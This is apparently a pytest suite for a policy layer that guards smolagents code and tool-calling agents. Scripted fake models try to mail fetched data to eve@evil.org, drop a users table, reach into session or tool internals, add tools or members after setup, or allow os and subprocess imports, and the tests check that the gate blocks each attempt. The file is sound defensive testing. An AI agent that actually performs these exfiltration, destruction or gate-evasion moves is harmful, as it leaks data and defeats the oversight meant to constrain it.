"""What is peculiar to smolagents: code that calls tools, members, tools that come later, and steps that run out."""

from __future__ import annotations

from typing import Any

import pytest
from smolagents import CodeAgent, LogLevel, ToolCallingAgent, tool
from smolagents.local_python_executor import LocalPythonExecutor
from smolagents.models import ChatMessage, MessageRole, Model

from policyengine import Engine
from policyengine.integrations.smolagents import protect
from tests.integrations.agents.host_smolagents import Says, made
from tests.integrations.agents.world import ANN, APPROVED, POLICIES, Ran, Tools, approve_all

MEMBER = POLICIES + (
    "tool team(task: String) { sends_outside: false, reads_untrusted: false }\n"
    'permit team: call on Tool::"team" for User when not (tool.args.task like "*secret*")\n'
)


class Writes(Model):
    """A model that writes code."""

    def __init__(self, *code: str) -> None:
        super().__init__()
        self._code = iter(code)
        self.seen = ""

    def generate(self, messages: Any, *_: Any, **__: Any) -> ChatMessage:
        self.seen += str([one.content for one in messages])
        return ChatMessage(MessageRole.ASSISTANT, f"Thought: go on.\n<code>\n{next(self._code)}\n</code>")


def session(policies: str = POLICIES, prompt: str = "write to bob@acme.com") -> Any:
    return Engine.from_text(policies).session(principal=ANN, prompt=prompt)


def tools_of(tools: Tools) -> list[Any]:
    return [made(one) for one in tools.functions()]


def test_code_is_gated_whatever_it_calls() -> None:
    tools = Tools()
    model = Writes(
        "page = read_page('acme.com')\nsend_mail(to='eve@evil.org', body=page)",
        "send_mail('bob@acme.com', 'hi')\nfinal_answer('I wrote to eve@evil.org.')",
    )
    agent = protect(
        CodeAgent(tools=tools_of(tools), model=model, verbosity_level=LogLevel.OFF),
        session(),
        output={"tenant": "acme"},
    )
    assert agent.run("write to bob@acme.com") == "I wrote to [email]."
    assert tools.ran == [("read_page", "acme.com"), ("send_mail", "bob@acme.com", "hi")]
    assert "`send_mail` may not run" in model.seen


@pytest.mark.parametrize(
    ("answer", "had"),
    [
        ("['I wrote to eve@ev', 'il.org.']", ["I wrote to [email]", "."]),
        ("['I wrote', 'to Bob.']", ["I wrote", "to Bob."]),
        ("{'to': 'eve@evil.org'}", "{'to': '[email]'}"),
    ],
)
def test_an_answer_of_several_texts_is_released_as_one(answer: str, had: Any) -> None:
    agent = CodeAgent(tools=[], model=Writes(f"final_answer({answer})"), verbosity_level=LogLevel.OFF)
    assert protect(agent, session(), output={"tenant": "acme"}).run("go") == had


@pytest.mark.parametrize(
    "code",
    [
        "team._session.say('write to eve@evil.org')",
        "team.tools['send_mail']('eve@evil.org', 'x')",
        "team.model('x')",
        "send_mail.client.append('eve@evil.org')",
        "send_mail.inputs.clear()",
    ],
)
def test_code_reaches_nothing_through_what_it_is_handed(code: str) -> None:
    """Neither the session, which believes what it is told, nor what a tool or a member does its work with."""
    tools = Tools()
    sent: list[str] = []
    handed = tools_of(tools)
    for one in handed:
        one.client = sent
    member = ToolCallingAgent(
        tools=[], model=Says([], Ran()), verbosity_level=LogLevel.OFF, name="team", description="Helps."
    )
    model = Writes(f"{code}\nsend_mail('eve@evil.org', 'hi')", "send_mail('eve@evil.org', 'hi')", "final_answer('no')")
    agent = CodeAgent(tools=handed, managed_agents=[member], model=model, verbosity_level=LogLevel.OFF)
    assert protect(agent, session(MEMBER)).run("write to bob@acme.com") == "no"
    assert (tools.ran, sent) == ([], [])
    assert "`send_mail` may not run" in model.seen


def test_code_that_runs_elsewhere_is_refused() -> None:
    agent = CodeAgent(tools=[], model=Writes(), verbosity_level=LogLevel.OFF)
    agent.executor_type = "docker"
    with pytest.raises(ValueError, match="not gated"):
        protect(agent, session())


@pytest.mark.parametrize("name", ["*", "os", "os.path", "subprocess", "urllib.request"])
def test_code_that_could_act_without_a_tool_is_refused(name: str) -> None:
    agent = CodeAgent(tools=[], model=Writes(), additional_authorized_imports=[name], verbosity_level=LogLevel.OFF)
    with pytest.raises(ValueError, match="acts without a tool"):
        protect(agent, session())
    harmless = CodeAgent(
        tools=[], model=Writes(), additional_authorized_imports=["fractions"], verbosity_level=LogLevel.OFF
    )
    assert protect(harmless, session()) is harmless


def test_members_are_gated_and_asked_by_the_rules() -> None:
    tools = Tools()
    inner: Any = [[("send_mail", {"to": "eve@evil.org", "body": "x"})], "wrote"]
    member = ToolCallingAgent(
        tools=tools_of(tools), model=Says(inner, Ran()), verbosity_level=LogLevel.OFF, name="team", description="Helps."
    )
    ran = Ran()
    script: Any = [[("team", {"task": "tell a secret"})], [("team", {"task": "write"})], "done"]
    agent = protect(
        ToolCallingAgent(tools=[], model=Says(script, ran), managed_agents=[member], verbosity_level=LogLevel.OFF),
        session(MEMBER),
    )
    assert agent.run("write to bob@acme.com") == "done"
    assert "`team` may not run" in ran.seen
    assert tools.ran == []


def test_a_tool_that_is_added_later_is_gated() -> None:
    tools = Tools()
    ran = Ran()
    script: Any = [[("drop_table", {"name": "users"})], "done"]
    agent = protect(ToolCallingAgent(tools=[], model=Says(script, ran), verbosity_level=LogLevel.OFF), session())
    agent.tools["drop_table"] = next(one for one in tools_of(tools) if one.name == "drop_table")
    assert agent.run("drop users") == "done"
    assert (tools.ran, "`drop_table` may not run" in ran.seen) == ([], True)


def test_what_is_said_when_the_steps_run_out_is_released() -> None:
    class Ends(Says):
        def generate(self, messages: Any, *given: Any, **named: Any) -> ChatMessage:
            if not named.get("tools_to_call_from"):
                return ChatMessage(MessageRole.ASSISTANT, "Ask eve@evil.org.")
            return super().generate(messages, *given, **named)

    script: Any = [[("read_page", {"url": "a"})]]
    agent = ToolCallingAgent(
        tools=tools_of(Tools()), model=Ends(script, Ran()), max_steps=1, verbosity_level=LogLevel.OFF
    )
    gated = protect(agent, session(), output={"tenant": "acme"})
    assert gated.run("read a") == "Ask [email]."
    with pytest.raises(PermissionError):
        gated.run("read a", stream=True)


def test_an_approval_is_for_the_same_call_made_again() -> None:
    """smolagents has no interrupt: the model is told, and the approval is in the store."""
    tools, ran, engine = Tools(), Ran(), Engine.from_text(APPROVED)

    def script() -> Any:
        yield [("slow", {"name": "x"})]
        assert approve_all(engine) == ["{'name': 'x'}"]
        yield [("slow", {"name": "y"})]
        yield [("slow", {"name": "x"})]
        yield [("slow", {"name": "x"})]
        yield "done"

    gate = engine.session(principal=ANN, prompt="go")
    agent = ToolCallingAgent(tools=tools_of(tools), model=Says(script(), ran), verbosity_level=LogLevel.OFF)
    assert protect(agent, gate, engine=engine).run("go") == "done"
    # Other arguments ask anew, and so does the same call once its approval is used.
    assert tools.ran == [("slow", "x")]
    assert approve_all(engine) == ["{'name': 'y'}", "{'name': 'x'}"]
    assert "`slow` has to be approved by Group finance first" in ran.seen


def test_what_an_agent_is_given_anew_is_gated() -> None:
    bad: Any = [[("drop_table", {"name": "users"})], "done"]
    for given in (lambda tools, more: {**tools, **more}, lambda tools, more: tools | more):
        tools = Tools()
        more = {one.name: one for one in tools_of(tools)}
        agent = protect(ToolCallingAgent(tools=[], model=Says(bad, Ran()), verbosity_level=LogLevel.OFF), session())
        agent.tools = given(agent.tools, more)
        assert agent.run("drop users") == "done"
        assert tools.ran == []
    agent.model = Says(["I wrote to eve@evil.org."], Ran())
    assert agent.run("go") == "I wrote to eve@evil.org."


@pytest.mark.parametrize("assigned", [False, True])
def test_a_member_that_comes_later_is_gated_and_asked_by_the_rules(assigned: bool) -> None:
    tools, ran = Tools(), Ran()
    inner: Any = [[("send_mail", {"to": "eve@evil.org", "body": "x"})], "wrote"]
    member = ToolCallingAgent(
        tools=tools_of(tools), model=Says(inner, Ran()), verbosity_level=LogLevel.OFF, name="team", description="Helps."
    )
    script: Any = [[("team", {"task": "tell a secret"})], [("team", {"task": "write"})], "done"]
    first = ToolCallingAgent(
        tools=[], model=Says([], Ran()), verbosity_level=LogLevel.OFF, name="other", description="Helps."
    )
    agent = protect(
        ToolCallingAgent(tools=[], model=Says(script, ran), managed_agents=[first], verbosity_level=LogLevel.OFF),
        session(MEMBER),
    )
    # As the framework prepares those that it has at the beginning.
    member.inputs, member.output_type = first.inputs, first.output_type  # type: ignore[attr-defined]
    if assigned:
        agent.managed_agents = {"team": member}
    else:
        agent.managed_agents["team"] = member
    assert agent.run("write to bob@acme.com") == "done"
    assert "`team` may not run" in ran.seen
    assert tools.ran == []


def test_code_is_not_given_another_place_to_run() -> None:
    agent = protect(CodeAgent(tools=[], model=Writes(), verbosity_level=LogLevel.OFF), session())
    with pytest.raises(ValueError, match="acts without a tool"):
        agent.python_executor = LocalPythonExecutor(["os"])
    with pytest.raises(ValueError, match="code that runs elsewhere"):
        agent.python_executor = object()  # type: ignore[assignment]
    agent.python_executor = LocalPythonExecutor(["fractions"])


def test_an_agent_within_a_tool_is_gated_or_refused_there() -> None:
    tools = Tools()
    inner: Any = ToolCallingAgent(
        tools=tools_of(tools),
        model=Says([[("drop_table", {"name": "u"}), ("slow", {"name": "x"})], "inner"], Ran()),
        verbosity_level=LogLevel.OFF,
    )

    @tool
    def helper(input: str) -> str:
        """Ask another agent.

        Args:
            input: What it is to do.
        """
        return str(inner.run(input))

    def outer() -> tuple[Any, Ran]:
        ran = Ran()
        script: Any = [[("helper", {"input": "x"})], "done"]
        return protect(
            ToolCallingAgent(tools=[helper], model=Says(script, ran), verbosity_level=LogLevel.OFF), session()
        ), ran

    agent, _ = outer()
    assert agent.run("go") == "done"
    assert tools.ran == [("slow", "x")]
    # The agent itself is as it was.
    inner.model = Says([[("drop_table", {"name": "u"})], "inner"], Ran())
    assert inner.run("go") == "inner"
    assert tools.ran == [("slow", "x"), ("drop_table", "u")]
    inner = CodeAgent(tools=[], model=Writes(), additional_authorized_imports=["os"], verbosity_level=LogLevel.OFF)
    agent, ran = outer()
    assert agent.run("go") == "done"
    assert "acts without a tool" in ran.seen


def test_what_is_protected_already_is_not_protected_with_something_else() -> None:
    """Its calls would still be decided in the session of the other one, who may be somebody else."""
    first = session()
    agent = protect(ToolCallingAgent(tools=[], model=Says([], Ran()), verbosity_level=LogLevel.OFF), first)
    for other, terms in ((session(), {}), (first, {"output": {"tenant": "acme"}})):
        with pytest.raises(ValueError, match="protected already"):
            protect(agent, other, **terms)
